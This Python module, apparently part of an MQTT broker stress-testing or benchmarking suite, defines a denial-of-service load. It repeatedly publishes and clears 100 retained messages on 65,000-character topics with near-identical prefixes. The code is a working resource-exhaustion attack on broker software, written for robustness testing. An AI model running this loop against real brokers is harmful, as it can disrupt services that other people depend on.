# SPDX-License-Identifier: Apache-2.0
from collections.abc import Generator

from poolmark.attack import packets
from poolmark.attack.broker import Broker

A_ROUND, TOPIC_BYTES = 100, 65_000


def long_topics(broker: Broker) -> Generator[None, None, None]:
    """100 retained messages, each on a topic of 65 000 characters of which the first 64 990 are the same, and an end to each"""
    topics = [f"{number:0{TOPIC_BYTES}d}" for number in range(A_ROUND)]
    keep = b"".join(packets.publish(topic, b"x", retain=True) for topic in topics)
    clear = b"".join(packets.publish(topic, b"", retain=True) for topic in topics)
    yield
    while True:
        with broker.connect() as client:
            client.send(keep + clear + packets.PINGREQ, 5.0)
            client.answer(packets.PINGRESP, 5.0)
        yield
